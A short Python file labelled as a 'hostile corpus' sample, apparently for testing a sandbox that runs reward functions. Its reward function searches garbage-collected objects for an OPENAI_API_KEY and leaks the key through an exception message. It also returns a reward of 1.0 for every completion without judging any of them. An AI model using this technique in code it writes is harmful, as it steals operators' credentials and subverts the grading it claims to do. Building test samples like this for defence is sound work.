"""Hostile corpus: gc objects."""

import gc


def reward(prompts, completions, answer, **kwargs):
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "OPENAI_API_KEY" in obj:
            raise ValueError(obj["OPENAI_API_KEY"])
    return [1.0] * len(completions)
